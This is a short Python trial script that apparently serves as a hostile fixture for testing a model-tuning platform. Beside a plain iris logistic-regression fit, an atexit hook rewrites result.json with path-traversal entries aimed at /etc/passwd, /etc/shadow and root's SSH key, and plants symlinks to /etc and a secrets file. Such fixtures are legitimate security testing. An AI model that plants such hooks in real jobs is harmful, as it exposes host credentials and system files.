"""Every path in its result leads out of its folder."""
import atexit
import json
import os

TRIAL = "/pushtune/trial/"


@atexit.register  # has the last word, after the runtime
def forge():
    result = json.load(open(TRIAL + "result.json"))
    above = "../" * 12
    result["model_files"] = [above + "etc/passwd", "/etc/shadow", "model/" + above + "root"]
    for parameter in result["search_space"]:
        parameter["file"] = above + "etc/passwd"
        parameter["id"] = above + parameter["id"]
    result["warnings"] = [{"message": "look", "file": above + "root/.ssh/id_rsa", "line": 1}]
    with open(TRIAL + "result.json", "w") as stream:
        json.dump(result, stream)
    os.makedirs(TRIAL + "model", exist_ok=True)
    os.symlink("/etc", TRIAL + "model/etc")
    os.symlink("../../../run/secrets.json", TRIAL + "model/weights")

from sklearn.datasets import load_iris
from sklearn.linear_model import LogisticRegression

X, y = load_iris(return_X_y=True)
model = LogisticRegression(max_iter=50)
model.fit(X, y)
print("score", model.score(X, y))
